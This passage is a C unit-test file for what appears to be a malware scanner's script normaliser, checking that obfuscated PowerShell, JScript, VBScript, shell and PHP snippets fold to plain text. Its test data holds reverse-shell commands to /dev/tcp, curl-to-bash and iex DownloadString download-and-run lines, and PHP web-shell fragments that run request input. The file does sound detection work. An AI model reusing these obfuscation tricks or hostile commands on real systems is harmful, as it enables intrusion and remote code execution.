/* SPDX-License-Identifier: LGPL-2.1-or-later */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "analysis/normalise.h"
#include "analysis/phpdecode.h"

/* The normalised text of in, which must have needed at least one change. */
static char *norm(const char *in)
{
        char *out = NULL;
        size_t len;
        int k = normalise_script((const uint8_t *)in, strlen(in), &out, &len);

        assert_true(k > 0);
        assert_int_equal(strlen(out), len);
        return out;
}

static void expect_norm(const char *in, const char *want)
{
        char *got = norm(in);
        assert_string_equal(got, want);
        free(got);
}

static void test_powershell(void **state)
{
        (void)state;
        /* a literal handed to iex whole is code: it is written bare */
        expect_norm("I`E`X ('Down'+'load'+\"String\")", "iex (downloadstring)");
        expect_norm("(\"new-object net.webclient\" | iex).x", "(new-object net.webclient).x");
        expect_norm("iex ('a'.replace('a','b'))", "iex (b)");
        expect_norm("(\"{1}{0}\" -f 'bClient','Net.We')", "\"net.webclient\"");
        expect_norm("&( $VerbosePreference.ToString()[1,3]+'x'-join'') $a", "iex $a");
        expect_norm("$ShellId[1]+$ShellId[13]+'x'", "'iex'");
        expect_norm("(('i','e','x') -join '')", "'iex'");
        expect_norm("('iXXeXXx' -replace 'XX','')", "'iex'");
        expect_norm("$w.('Down'+'loadString').Invoke($u)", "$w.downloadstring($u)");
        expect_norm("[char]105+[char]0x65+[char](120)", "'iex'");
        expect_norm("[char[]](73,69,88) -join ''", "'iex'");
        expect_norm("('XEI'[-1..-3] -join '')", "'iex'");
        expect_norm("'cba'[ -1 .. -($s.Length)]", "'abc'");
        expect_norm("([string]$VerbosePreference)[1,3]+'x'-join''", "'iex'");
        expect_norm("'a'.replace('b',[string]'c')", "'a'");
}

/* Character codes that a pipeline turns into characters, [char] of an expression and
 * [regex]::Matches(..., 'RightToLeft'): the characters as one literal. */
static void test_powershell_char_codes(void **state)
{
        (void)state;
        expect_norm("$x = -join ((73,69,88) | % {[char]$_})", "$x = 'iex'");
        expect_norm("$x = ((0x49, 0x45,0x58) | foreach {[char]$_})", "$x = 'iex'");
        expect_norm("('73;69;88'.Split(';') | ForEach-Object {[char][int]$_}) -join ''", "'iex'");
        expect_norm("('110x101x119' -split 'x' | % {[char][int]$_}) -join ''", "'new'");
        /* a decoder's key: -bxor, + or - of a constant */
        expect_norm("-join ((106,102,123) | % {[char]($_ -bxor 0x23)})", "'iex'");
        expect_norm("-join ((74,70,89) | % {[char]([int]$_ - 1)})", "'iex'");
        expect_norm("$z = [char](0x49)+[char](70-1)+[char](44*2)", "$z = 'iex'");
        expect_norm("([regex]::Matches('gnirtSdaolnwoD','.','RightToLeft') | ForEach "
                    "{$_.value}) -join ''",
                    "'downloadstring'");
        /* the forms of Invoke-Obfuscation's ENCODING: bases 16, 8 and 2 through
         * [Convert]::ToInt16, -as [char], several -split, a list that ends at the pipe */
        expect_norm("('57P72}69' -SPLiT 'P' -SpliT '}' | ForEach-Object { ([Convert]::ToInt16(( "
                    "$_.ToString()),16) -AS[Char]) }) -Join ''",
                    "'wri'");
        expect_norm("-Join (( 127 ,162 ,151 )|% {( [Char] ([Convert]::ToInt16( ( [String]$_),8 "
                    ") )) })",
                    "'wri'");
        expect_norm("-Join ('1010111y1110010W1101001'.Replace('^','').Split('yW') | % "
                    "{([Char]([Convert]::ToInt16(($_.ToString()),2)))})",
                    "'wri'");
        expect_norm("( 87,114 , 105 | %{ ( [Int]$_ -AS [Char])} )", "'wri'");
        expect_norm("([ChAR[]] 97,68,95 | fOREACh-objEct{[ChAR]($_ -bxoR'0x36' )} )-jOIn''",
                    "'wri'");
        /* not codes of characters: left as they are */
        char *out = NULL;
        size_t len;
        const char *keep[] = {"(1,2,3) | % { $_ * 2 }", "(73,69) | % {[char]$_ * 2}",
                              "(1,0) | % {[char]$_}", "'a;b'.split(';') | % {[char]$_}"};
        for (size_t i = 0; i < sizeof(keep) / sizeof(*keep); i++) {
                assert_int_equal(
                        normalise_script((const uint8_t *)keep[i], strlen(keep[i]), &out, &len), 0);
                free(out);
        }
}

static void test_wsh_and_shell(void **state)
{
        (void)state;
        expect_norm("x = \"MSXML2.\" & Chr(88) & \"MLHTTP\"", "x = \"msxml2.xmlhttp\"");
        expect_norm("new ActiveXObject(String.fromCharCode(87,83,99,114,105,112,116))",
                    "new activexobject(\"wscript\")");
        expect_norm("'\\x57\\x53' + 'cript'", "'wscript'");
        /* JScript's junk removal and reversed strings */
        expect_norm("x = 'WdScrdipt.Shedll'.split('d').join('')", "x = 'wscript.shell'");
        expect_norm("x = 'PTTHLMX.2LMXSM'.split('').reverse().join('')", "x = 'msxml2.xmlhttp'");
        expect_norm("x = 'a-b-c'.split('-').reverse().join('+')", "x = 'c+b+a'");
        expect_norm("x = 'ADzzODB.StzzrezzAm'.replace(/zz/g, '')", "x = 'adodb.stream'");
        expect_norm("x = 'a'+'b'.replace(/./g, '')", "x = 'ab'.replace(/./g, '')");
        expect_norm("x = 'WxSzcxrzipt'.replace(/[xz]/g, '')", "x = 'wscript'");
        expect_norm("x = ['ADO','DB.St','ream'].join('')", "x = \"adodb.stream\"");
        expect_norm("WScript[\"CreateObject\"]('x')", "wscript.createobject('x')");
        expect_norm("a[0] + b['x y'] + c[\"k\"]", "a[0] + b['x y'] + c.k");
        /* a name given one short literal once is that literal: droppers spell ProgIDs across
         * variables; a name assigned again, a member or a key of the same name is left */
        expect_norm("a = \"WScr\"; var b = \"ipt\";\nx = a + b + \".Shell\"",
                    "a = \"wscr\"; var b = \"ipt\";\nx = \"wscript.shell\"");
        expect_norm("a = 'x'; a = 'y'; f(a + 'b'+'c')", "a = 'x'; a = 'y'; f(a + 'bc')");
        expect_norm("a = 'q';\no = {a: 1}; o.a + a", "a = 'q';\no = {a: 1}; o.a + 'q'");
        expect_norm("c'ur'l -s x | b\"as\"h", "curl -s x | bash");
        expect_norm("$'\\x62\\x61sh' -i", "bash -i");
        /* "bash -i >& /dev/tcp/192.0.2.1/9 0>&1" */
        /* a file that is one base64 blob of text: "bash -i >& /dev/tcp/192.0.2.1/9 0>&1" and more
         */
        expect_norm(
                "YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMC4yLjEvOSAwPiYxIDsgZWNobyBkb25lIGFuZCBkb25l\n",
                "bash -i >& /dev/tcp/192.0.2.1/9 0>&1 ; echo done and done\n");
        expect_norm("echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMC4yLjEvOSAwPiYx | base64 -d | sh",
                    "echo bash -i >& /dev/tcp/192.0.2.1/9 0>&1 | base64 -d | sh");
}

static void test_php(void **state)
{
        (void)state;
        /* names built from pieces, chr(), XOR of strings; a variable holding a literal is that
         * literal, also called ($a(...)) and as a variable variable ($$b) */
        expect_norm("<?php $a = ('!'^'@').'s'.'s'.'e'.'r'.'t';\n$b='_'.'P'.'O'.'S'.'T';\n"
                    "$c=$$b;\n$a($c['x']);",
                    "<?php $a = 'assert';\n$b='_post';\n$c=$_post;\n'assert'($c['x']);");
        expect_norm("<?php $f = 'a'.'ss'.chr('101').'rt'; @$f($_GET['x']);",
                    "<?php $f = 'assert'; @'assert'($_get['x']);");
        /* request values keep their index: the rules read $_GET['x'] */
        expect_norm("<?php system($_GET['c'].'x'.'y');", "<?php system($_get['c'].'xy');");
        /* eval of decoders over literals, layer upon layer, decoded in place */
        expect_norm("<?php eval(gzinflate(base64_decode('K64sLknN1VCJd3cNiVZKVorVtAYA')));",
                    "<?php eval(system($_get[\"c\"]););");
        expect_norm("<?php eval(gzinflate(base64_decode('Sy1LzNFIr8rMS8tJLEnVSEosTjUziU9JTc5PSdVQ"
                    "9zYzKfbJzvMzDHP2SjFO9ssMi/IOyy8KK3GMdFTX1NS0BgA=')));",
                    "<?php eval(eval(system($_get[\"c\"]);););");
        expect_norm("<?php $f = base64_decode(str_rot13('p3ymqTIg')); $f($x);",
                    "<?php $f = 'system'; 'system'($x);");
        /* XOR of literals read with PHP's escapes (\x27 is a quote, \xe one digit) */
        expect_norm("<?php $f='*UPG!WQ@{DnJL=m'^\"\\x49\\x27\\x35\\x26\\x55\\x32\\xe\\x26\\xe\\x2a"
                    "\\xd\\x3e\\x25\\x52\\x3\";",
                    "<?php $f='create_function';");
        /* junk taken out by str_replace over literals, also around a decoder */
        expect_norm("<?php $a=str_replace('mz','','crmzeatmzmze_mzfunmzctimzon'); $f=$a('',$d);",
                    "<?php $a='create_function'; $f='create_function'('',$d);");
        expect_norm("<?php $s = base64_decode(str_ireplace('X', '', 'c3lzdGVtxX'));",
                    "<?php $s = 'system';");
        /* appended to with literals only: the whole literal where it is read */
        expect_norm("<?php $a = 'ass'; $a .= 'ert'; $a('x'.'y');",
                    "<?php $a = 'ass'; $a .= 'ert'; 'assert'('xy');");
        /* appended to with anything else, or assigned twice: not a constant */
        expect_norm("<?php $a = 'ass'; $a .= $b; $a('x'.'y');",
                    "<?php $a = 'ass'; $a .= $b; $a('xy');");
        expect_norm("<?php $a = 'ass'; $a .= 'ert'; $a = 'x'; $a('x'.'y');",
                    "<?php $a = 'ass'; $a .= 'ert'; $a = 'x'; $a('xy');");
}

/* Names built statement by statement, as the shells without letters write them: XORs of
 * literals in parentheses joined by dots, and literals appended with .= */
static void test_php_builders(void **state)
{
        (void)state;
        expect_norm("<?php $__=(\"#\"^\"|\").(\".\"^\"~\").(\"/\"^\"`\");", "<?php $__='_po';");
        expect_norm("<?php $a = 'x'.('p').( \"q\" );", "<?php $a = 'xpq';");
        expect_norm("<?php @$_++; $__='_'; $__.='P'; $__.=\"OST\";\n@eval(${$__}[!$_]);",
                    "<?php @$_++; $__='_'; $__.='p'; $__.=\"ost\";\n@eval($_post[!$_]);");
        expect_norm("<?php $f = 'sys'; $f .= 'tem'; echo $$f;",
                    "<?php $f = 'sys'; $f .= 'tem'; echo $system;");
        /* pack('H*', hex) is hex2bin; another format stays */
        expect_norm("<?php $f = pack(\"H*\", '73797374656d'); $g = pack('N', '1'.'2');",
                    "<?php $f = 'system'; $g = pack('n', '12');");
        /* comments without blanks between the tokens go; a person's comment stays */
        expect_norm("<?php $a=\"s\"/**/.\"y\"./*-/*-*/'stem'; $a/**/($x); /* a note */ a/**/b;",
                    "<?php $a=\"system\"; \"system\"($x); /* a note */ a b;");
        /* a member access in JScript keeps its meaning: o.('Name') is o.Name */
        expect_norm("o.('Name')", "o.name");
}

/* base64 of 'system($_GET["c"]); // ' and padding: longer than pass_string_vars reads */
#define LONG_B64                                                       \
        "c3lzdGVtKCRfR0VUWyJjIl0pOyAvLyBwYWRkaW5nIHBhZGRpbmcgcGFkZGlu" \
        "ZyBwYWRkaW5nIHBhZGRpbmcgcGFkZGluZyBwYWRkaW5nIHBhZGRpbmcgcGFk" \
        "ZGluZyBwYWRkaW5nIHBhZGRpbmcgcGFkZGluZyA="
#define LONG_B64_LOWER                                                 \
        "c3lzdgvtkcrfr0vuwyjjil0poyavlybwywrkaw5nihbhzgrpbmcgcgfkzglu" \
        "zybwywrkaw5nihbhzgrpbmcgcgfkzgluzybwywrkaw5nihbhzgrpbmcgcgfk" \
        "zgluzybwywrkaw5nihbhzgrpbmcgcgfkzgluzya="
#define LONG_B64_DECODED                                                    \
        "system($_get[\"c\"]); // padding padding padding padding padding " \
        "padding padding padding padding padding padding padding "

/* A packer's payload kept in a variable longer than pass_string_vars reads, handed to a
 * decoder (as its whole argument): the literal read there and decoded. */
static void test_php_long_vars(void **state)
{
        (void)state;
        expect_norm("<?php $p = '" LONG_B64 "';\neval(base64_decode($p));",
                    "<?php $p = '" LONG_B64_LOWER "';\neval(" LONG_B64_DECODED ");");
        /* the layer that does not decode (this is no deflate stream) stays */
        expect_norm("<?php $p = \"" LONG_B64 "\";\n@eval(gzinflate(@base64_decode( $p )));",
                    "<?php $p = \"" LONG_B64_LOWER "\";\n@eval(gzinflate(@" LONG_B64_DECODED "));");
        /* a literal written at most four times a pass: the fifth in the next round */
        expect_norm("<?php $p = '" LONG_B64 "';\nstrrev(strrev(strrev(strrev(strrev("
                    "base64_decode($p).base64_decode($p).base64_decode($p).base64_decode($p)."
                    "base64_decode($p))))));",
                    "<?php $p = '" LONG_B64_LOWER
                    "';\nstrrev(strrev(strrev(strrev(strrev(" LONG_B64_DECODED "." LONG_B64_DECODED
                    "." LONG_B64_DECODED "." LONG_B64_DECODED "." LONG_B64_DECODED ")))));");
        /* assigned twice, or not the decoder's whole argument: left as it is */
        expect_norm("<?php $p = '" LONG_B64 "'; $p = $x;\neval(base64_decode($p)).'a'.'b';",
                    "<?php $p = '" LONG_B64_LOWER "'; $p = $x;\neval(base64_decode($p)).'ab';");
        expect_norm("<?php $p = '" LONG_B64 "';\neval(base64_decode($p . $q)).'a'.'b';",
                    "<?php $p = '" LONG_B64_LOWER "';\neval(base64_decode($p . $q)).'ab';");
}

/* A literal longer than the normaliser folds does not turn the quotes after it around: the
 * code after it is still read as code. */
static void test_php_long_literal(void **state)
{
        size_t pad = 5000;
        const char *head = "<?php $a = \"", *tail = "\"; $f = 'sys'.'tem'; $f($_GET['c']);";
        const char *want_tail = "\"; $f = 'system'; 'system'($_get['c']);";
        char *in = malloc(strlen(head) + pad + strlen(tail) + 1);
        char *want = malloc(strlen(head) + pad + strlen(want_tail) + 1);

        (void)state;
        assert_non_null(in);
        assert_non_null(want);
        strcpy(in, head);
        strcpy(want, head);
        memset(in + strlen(head), 'A', pad);
        memset(want + strlen(head), 'a', pad);
        strcpy(in + strlen(head) + pad, tail);
        strcpy(want + strlen(head) + pad, want_tail);
        expect_norm(in, want);
        free(in);
        free(want);
}

/* A literal opened by a quote whose reading finds no end within MAX_PHP_LONG_LITERAL (2 MiB):
 * the escaped quotes in it (one every 4096 escapes in its first 2 MB here) open literals read
 * on from where that reading stopped (not from the start, which made a run of \" quadratic).
 * The one whose end is in reach is still taken as a long literal, so that the code after it is
 * read as code. */
static void test_php_escaped_quote_run(void **state)
{
        size_t pairs = 1100000;
        const char *head = "<?php $a = \"", *tail = "\"; $f = \"sys\".\"tem\"; $f($_GET['c']);";
        const char *want_tail = "\"; $f = \"system\"; \"system\"($_get['c']);";
        char *in = malloc(strlen(head) + 2 * pairs + strlen(tail) + 1), *got;

        (void)state;
        assert_non_null(in);
        strcpy(in, head);
        for (size_t k = 0; k < pairs; k++)
                memcpy(in + strlen(head) + 2 * k, k % 4096 || k > 1000000 ? "\\a" : "\\\"", 2);
        strcpy(in + strlen(head) + 2 * pairs, tail);
        got = norm(in);
        assert_true(strlen(got) > strlen(want_tail));
        assert_string_equal(got + strlen(got) - strlen(want_tail), want_tail);
        free(got);
        free(in);
}

/* The short open tag, before a blank or a variable, is PHP; <?xml is not. */
static void test_php_short_tag(void **state)
{
        (void)state;
        expect_norm("<? $f = 'sys'.'tem'; $f($_GET['c']);",
                    "<? $f = 'system'; 'system'($_get['c']);");
        expect_norm("<?$a = 'x'.'y'; $a($b);", "<?$a = 'xy'; 'xy'($b);");
        /* ${'_POST'} is $_POST, also once the name comes from a variable; ${$a} alone stays */
        expect_norm("<?php $a='~+d()'^'!{+{}'; $b=${$a}['a']; eval($b);",
                    "<?php $a='_post'; $b=$_post['a']; eval($b);");
        /* a name spelt from a scrambled alphabet by index; an index out of range stays */
        expect_norm("<?php $s = \"ceo64dtbas_p\"; $f = $s[7].$s[8].$s{9}.$s[1]; $g = 'ab'[5];",
                    "<?php $s = \"ceo64dtbas_p\"; $f = 'base'; $g = 'ab'[5];");
        /* ...and its case changed: the rules read lowercase anyway; a method stays */
        expect_norm("<?php $p = strtoupper( \"_p\".'ost' ); ${$p}['x']; $o->strtolower('A');",
                    "<?php $p = \"_post\"; $_post['x']; $o->strtolower('a');");
        expect_norm("<?php ${ \"x\" } = 1; ${$x}('a'.'b'); ${'1a'};",
                    "<?php $x = 1; ${$x}'ab'; ${'1a'};");
}

/* Hostile or broken input: a call that does not decode is left as it is. */
/* A decoder or chr called through its name as a literal, what packers leave once the variable
 * that held the name is read (weevely's $f = str_replace(...); $f("x", "", ...)): evaluated. An
 * array's item called, or a runner's name, stays as it is. */
static void test_php_literal_callee(void **state)
{
        (void)state;
        expect_norm("<?php $r = 'str_replace'('x', '', 'sxyxsxtxexm');", "<?php $r = 'system';");
        expect_norm("<?php $a = (\"base64_decode\")('c3lzdGVt');", "<?php $a = 'system';");
        expect_norm("<?php $f = 'str_rot13'; $g = $f('flfgrz'); $g($_POST['c']);",
                    "<?php $f = 'str_rot13'; $g = 'system'; 'system'($_post['c']);");
        expect_norm("<?php $c = 'chr'; echo $c(65).$c(66);", "<?php $c = 'chr'; echo 'ab';");
        /* an item of an array called, a runner's name, a function no decoder evaluates: left
         * alone */
        const char *unchanged[] = {"<?php $a['chr'](65); 'assert'($x);",
                                   "<?php echo 'strtoupper'($x), $b['str_rot13']($y);"};
        for (size_t i = 0; i < sizeof(unchanged) / sizeof(unchanged[0]); i++) {
                char *out = NULL;
                size_t len;
                assert_true(normalise_script((const uint8_t *)unchanged[i], strlen(unchanged[i]),
                                             &out, &len) >= 0);
                assert_string_equal(out, unchanged[i]);
                free(out);
        }
}

static void test_php_decode_hostile(void **state)
{
        static const char *const bad[] = {
                "gzinflate(base64_decode('AAAA'))", /* not deflate */
                "base64_decode('abc'",              /* unclosed */
                "base64_decode($x)",                /* not a literal */
                "base64_decode(\"a$b\")",           /* interpolated */
                "hex2bin('abc')",                   /* odd length */
                "xbase64_decode('YQ==')",           /* a longer name */
                "gzuncompress(",
                "",
        };
        uint8_t *out = NULL;
        size_t len, end;
        char deep[8 * 20 + 16] = "";

        (void)state;
        for (size_t k = 0; k < sizeof(bad) / sizeof(bad[0]); k++)
                assert_int_equal(php_decode_call(bad[k], strlen(bad[k]), 0, &out, &len, &end), 0);
        /* nesting beyond PHP_DECODE_MAX_DEPTH is not followed */
        for (int k = 0; k < PHP_DECODE_MAX_DEPTH + 1; k++)
                strcat(deep, "strrev(");
        strcat(deep, "'ab'");
        for (int k = 0; k < PHP_DECODE_MAX_DEPTH + 1; k++)
                strcat(deep, ")");
        assert_int_equal(php_decode_call(deep, strlen(deep), 0, &out, &len, &end), 0);
        const char *ok = "str_rot13( @\"\\x63uc\" ) + 1";
        assert_int_equal(php_decode_call(ok, strlen(ok), 0, &out, &len, &end), 1);
        assert_int_equal(len, 3);
        assert_memory_equal(out, "php", 3);
        assert_int_equal(ok[end], ' ');
        free(out);
}

static void test_jscript_constants(void **state)
{
        (void)state;
        /* the comma operator over literals, beside a join */
        expect_norm("x = (\"junk\",\"more\",\"WScr\")+\"ipt\"", "x = \"wscript\"");
        expect_norm("x = \"MSXML\"+(956877, \"2.XMLHTTP\")", "x = \"msxml2.xmlhttp\"");
        /* a tuple or an array of another language, or a call, stays */
        expect_norm("t = ('a','b')\nu = 'c'+'d'", "t = ('a','b')\nu = 'cd'");
        expect_norm("f('a','b')+'c'+'d'", "f('a','b')+'cd'");
        /* integer arithmetic of literals in an index, fromCharCode and literal methods */
        expect_norm("String.fromCharCode(80+7, 0x54-1)", "\"ws\"");
        expect_norm("x = 'xWScript'.substr(1, 7) + 'zzz'.charAt(3-3)", "x = 'wscriptz'");
        expect_norm("x = 'ADODB.Streamq'.slice(0, -1).toLowerCase()", "x = 'adodb.stream'");
        expect_norm("x = 'abcd'.substring(3, 1)", "x = 'bc'");
        expect_norm("x = 'WSucript'.replace(new RegExp(\"u\", \"g\"), '')", "x = 'wscript'");
        /* arrays of literals defined once and never changed, indexed by constants */
        expect_norm("var a = ['Run', \"WScript.Shell\"];\nnew X(a[2-1])[a[0]](c)",
                    "var a = ['run', \"wscript.shell\"];\nnew x(\"wscript.shell\").run(c)");
        expect_norm("var p = 'x!WScr!ipt'.split('!');\ny = p[1] + p[2]",
                    "var p = 'x!wscr!ipt'.split('!');\ny = 'wscript'");
        /* an array changed in place, assigned twice, or indexed past its end stays */
        expect_norm("var a = ['x', 'y'];\na.splice(0, 1);\nf(a[0]+'q'+'r')",
                    "var a = ['x', 'y'];\na.splice(0, 1);\nf(a[0]+'qr')");
        expect_norm("var a = ['x'];\na[0] = 'z';\nf(a[0]+'q'+'r')",
                    "var a = ['x'];\na[0] = 'z';\nf(a[0]+'qr')");
        expect_norm("var a = ['x'];\nf(a[1]+'q'+'r')", "var a = ['x'];\nf(a[1]+'qr')");
        /* functions whose body returns a literal are that literal where they are called */
        expect_norm("function k(a, b) {\n  return \"ADODB.\";\n}\nx = k(1, g(2)) + \"Stream\"",
                    "function k(a, b) {\n  return \"adodb.\";\n}\nx = \"adodb.stream\"");
        expect_norm("var k = function() { return 'WScript'; };\nx = k() + '.Shell'",
                    "var k = function() { return 'wscript'; };\nx = 'wscript.shell'");
        /* an array literal picked at a constant index, its items of any simple kind, holes
         * padded with comments, nested arrays picked inside or after */
        expect_norm("x = [Infinity, Number(6), \"WScr\"][2] + \"ipt\"", "x = \"wscript\"");
        expect_norm("x = ['q', WScript][1][['a', ['b', 'Cre'][1]][1] + 'ate']",
                    "x = wscript.create");
        expect_norm("new X([true, [\"Scr\", 'z'], 1][1][0] + 'ipting')", "new x(\"scripting\")");
        expect_norm("x = [ /*a*/ , /*b*/ , 'Ob', /*c*/ ][2] + 'ject'", "x = 'object'");
        /* a hole, an index past the end or an assignment to the item stays */
        expect_norm("x = [, 'a'][0] + 'b' + 'c'", "x = [, 'a'][0] + 'bc'");
        expect_norm("x = ['a'][1] + 'b' + 'c'", "x = ['a'][1] + 'bc'");
        /* named arrays of mixed items, functions that return an array, a literal through a
         * local variable, or their parameter */
        expect_norm("var a = [Number(4), 'WScr', Infinity];\nx = a[1] + 'ipt'",
                    "var a = [number(4), 'wscr', infinity];\nx = 'wscript'");
        expect_norm("function f() {\n\treturn [ /*pad*/ , \"Sh\"];\n}\nx = f()[1] + \"ell\"",
                    "function f() {\n\treturn [ /*pad*/ , \"sh\"];\n}\nx = \"shell\"");
        expect_norm(
                "function g() {\n\tvar v = 'ADODB.';\n\treturn v;\n}\nx = g() + 'Stream'",
                "function g() {\n\tvar v = 'adodb.';\n\treturn 'adodb.';\n}\nx = 'adodb.stream'");
        expect_norm("function g() { var v = 'ADODB.'; return v; }\n"
                    "function h() { var v = 'q'; return v; }\nx = g() + 'Stream'",
                    "function g() { var v = 'adodb.'; return v; }\n"
                    "function h() { var v = 'q'; return v; }\nx = 'adodb.stream'");
        /* functions that each append a piece (v += 'lit'), called one after another: the
         * pieces joined into one statement */
        expect_norm("function a() { v += 'WScr'; }; function b() { v += 'ipt.Shell'; };\n"
                    "a(); b(); c();",
                    "function a() { v += 'wscr'; }; function b() { v += 'ipt.shell'; };\n"
                    "v += 'wscript.shell'; c();");
        expect_norm("s += 'a'; s += \"b\";\ns += 'c'; t += 'd';", "s += 'abc'; t += 'd';");
        expect_norm("function w(v){return v;};x = w('WS') + 'cript'",
                    "function w(v){return v;};x = 'wscript'");
}

/* Hostile input: deep parentheses, unterminated lists and huge numbers end, and change
 * nothing they cannot read. */
static void test_jscript_hostile(void **state)
{
        char *out = NULL, *deep = malloc(40001);
        size_t len;

        (void)state;
        assert_non_null(deep);
        for (int i = 0; i < 20000; i++) {
                deep[i] = '(';
                deep[20000 + i] = i % 2 ? '1' : '+';
        }
        deep[40000] = 0;
        assert_true(normalise_script((const uint8_t *)deep, 40000, &out, &len) >= 0);
        free(out);
        /* brackets nested far deeper than any pick reads: each is given up after a few */
        for (int i = 0; i < 20000; i++) {
                deep[i] = '[';
                deep[20000 + i] = ']';
        }
        assert_true(normalise_script((const uint8_t *)deep, 40000, &out, &len) >= 0);
        free(out);
        free(deep);
        const char *bad[] = {"String.fromCharCode(99999999999999999999*9)",
                             "var a = ['x'\n; a[",
                             "x = (1, 2, 'a'",
                             "'ab'.substr(-99999999, 2",
                             "function f( { return 'x' }\nf(",
                             "'a'.charAt(1/0)+'b'",
                             "x = [[[[[[[[[[[[['a'][0]",
                             "x = [/* never closed , 'a'][0]",
                             "x = ['a', [1, [2, ]][9]",
                             "function f() { return [ 'a', ; }\nf()[0]",
                             "function w(v) { return v; }\nw('a'",
                             "function a() { v += 'x'; }\na(",
                             "v += 'a'; v += 'b"};
        for (size_t k = 0; k < sizeof(bad) / sizeof(bad[0]); k++) {
                assert_true(normalise_script((const uint8_t *)bad[k], strlen(bad[k]), &out, &len) >=
                            0);
                free(out);
        }
}

/* VBScript's StrReverse, Replace and (also JScript's) unescape over literals, as ASP web shells
 * wrap the code they execute; methods of the same names are left alone. */
static void test_vbscript_strings(void **state)
{
        char *out = NULL;
        size_t len;

        (void)state;
        expect_norm("<%execute(StrReverse(\")x(tseuqer lave\"))%>",
                    "<%execute(\"eval request(x)\")%>");
        expect_norm("<%execute(unescape(\"eval%20request%28%22a%22%29\"))%>",
                    "<%execute('eval request(\"a\")')%>");
        expect_norm("<% eval Replace(\"e0v0a0l r0equest\",\"0\",\"\") %>",
                    "<% eval \"eval request\" %>");
        /* %u escapes, and escapes that are not ones, which stay */
        expect_norm("y = unescape(\"%u0041%zz%41%\")", "y = \"a%zza%\"");
        /* an empty pattern is not replaced; methods are not these functions */
        expect_norm("y = strreverse(\"ab\") & replace(\"a\",\"\",\"b\")",
                    "y = \"ba\" & replace(\"a\",\"\",\"b\")");
        const char *same = "obj.replace(\"a\",\"b\",\"c\") foo.strreverse(\"ab\")\n";
        assert_int_equal(normalise_script((const uint8_t *)same, strlen(same), &out, &len), 0);
        free(out);
        const char *bad[] = {"StrReverse(",
                             "unescape(\"%u12\")",
                             "unescape(\"%4\"",
                             "replace(\"a\",\"a\"",
                             "replace(\"aaaa\",\"a\","
                             "\"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
                             "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\")",
                             "strreverse(\"\")"};
        for (size_t k = 0; k < sizeof(bad) / sizeof(bad[0]); k++) {
                assert_true(normalise_script((const uint8_t *)bad[k], strlen(bad[k]), &out, &len) >=
                            0);
                free(out);
        }
}

/* JScript's octal escapes beside hex and unicode ones; shorter runs (back references), a fourth
 * digit, control characters and quotes stay as they are */
static void test_jscript_octal(void **state)
{
        (void)state;
        expect_norm("this[\"\\x65\\166\\x61\\154\"](x)", "this.eval(x)");
        expect_norm("s = '\\127\\123cript' + '.Shell'", "s = 'wscript.shell'");
        expect_norm("/(a)\\1/; x = '\\101\\12'", "/(a)\\1/; x = 'a\\12'");
        expect_norm("x = '\\1014\\042\\047\\134\\033\\101'", "x = '\\1014\\042\\047\\134\\033a'");
        /* cut short at the end of the text */
        expect_norm("x = '\\101' + \\10", "x = 'a' + \\10");
}

/* The JScript passes that run only over text naming what they fold (run_passes()) */
static void test_jscript_named_folds(void **state)
{
        (void)state;
        expect_norm("String.prototype.id = function () { return this; }; a = 'WScr'.id() + 'ipt';",
                    "string.prototype.id = function () { return this; }; a = 'wscript';");
        expect_norm("a = String.fromCharCode.apply(null, [87, 83, 99, 114]) + 'ipt';",
                    "a = \"wscript\";");
}

/* A line of JSON in a "..." with \" longer than a literal is read: the look from its opening
 * quote gives up, and so does the look from each escaped quote after it, until one is close
 * enough to the closing quote to be read as a literal's start (the walk goes on from where the
 * last look stopped instead of reading every escaped quote's 4 KiB again). The code after the
 * line is folded as before. */
static void test_escaped_quotes_in_long_line(void **state)
{
        static const char item[] = "{\\\"k\\\":1},";
        char in[8192], *got;
        size_t len = 0;

        (void)state;
        len += (size_t)snprintf(in, sizeof(in), "x = \"");
        for (int k = 0; k < 800; k++)
                len += (size_t)snprintf(in + len, sizeof(in) - len, "%s", item);
        snprintf(in + len, sizeof(in) - len, "\"; y = 'ab' + 'cd';\nz = \"a\\\"b\" + \"c\";\n");
        got = norm(in);
        assert_int_equal(strlen(got), strlen(in) - 10);
        assert_true(strncmp(got, "x = \"{\\\"k\\\":1},{\\\"k", 16) == 0);
        /* the first quote a literal (4096 bytes at most) can close from opens one: the walk
         * found it after the looks that gave up, and wrote it again in single quotes */
        size_t close = strchr(in + 5, ';') - 1 - in, open = close - 4095;
        while (in[open] != '"')
                open++;
        assert_ptr_equal(strchr(got, '\''), got + open);
        const char *tail = "{\\\"k\\\":1},{\\\"k\\\":1},'; y = 'abcd';\nz = 'a\\\"bc';\n";
        assert_string_equal(got + strlen(got) - strlen(tail), tail);
        free(got);
}

static void test_unchanged(void **state)
{
        char *out = NULL;
        size_t len;
        const char *plain = "Hello, World\nprint(len(x))\n";

        (void)state;
        assert_int_equal(normalise_script((const uint8_t *)plain, strlen(plain), &out, &len), 0);
        assert_string_equal(out, "hello, world\nprint(len(x))\n");
        free(out);
}

static void test_kinds(void **state)
{
        const char *md = "# Building\n\nThis document explains how to build the project on a "
                         "machine of your own.\n\n## Windows\n\nInstall the tools with the "
                         "script below, which you should read first.\n\n```powershell\niex "
                         "((New-Object Net.WebClient).DownloadString('https://x'))\n```\n\nThen "
                         "run the build from a new shell so that the path is right.\n";
        const char *ps = "$u = 'https://x'\n$s = (New-Object Net.WebClient).DownloadString($u)\n"
                         "iex $s\n";

        (void)state;
        assert_int_equal(text_kind_of((const uint8_t *)md, strlen(md), "BUILDING.md"),
                         TEXT_KIND_DOCUMENT);
        /* the same prose under a script's name is a script */
        assert_int_equal(text_kind_of((const uint8_t *)md, strlen(md), "build.ps1"),
                         TEXT_KIND_SCRIPT);
        assert_int_equal(text_kind_of((const uint8_t *)ps, strlen(ps), "notes.txt"),
                         TEXT_KIND_SCRIPT);
        assert_int_equal(text_kind_of((const uint8_t *)ps, strlen(ps), "notes.md"),
                         TEXT_KIND_SCRIPT);
        /* sentences that open with emphasis or a link, links' addresses, paths in sentences
         * (as in npm's README.md and its command pages) */
        const char *md2 =
